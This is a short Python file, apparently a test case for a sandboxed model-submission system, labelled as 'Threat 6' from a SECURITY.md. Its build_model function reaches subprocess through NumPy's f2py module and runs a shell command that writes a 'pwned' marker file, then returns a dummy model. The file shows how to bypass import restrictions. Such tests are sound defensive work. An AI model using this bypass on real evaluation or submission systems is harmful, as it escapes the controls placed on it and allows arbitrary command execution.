"""Threat 6 (SECURITY.md): NumPy's f2py imports subprocess; use it from there."""

import numpy as np


def build_model():
    np.f2py.subprocess.run(["sh", "-c", "echo pwned > /tmp/olympics-pwned"])
    return lambda x: np.zeros((len(x), 10), dtype=np.float32)
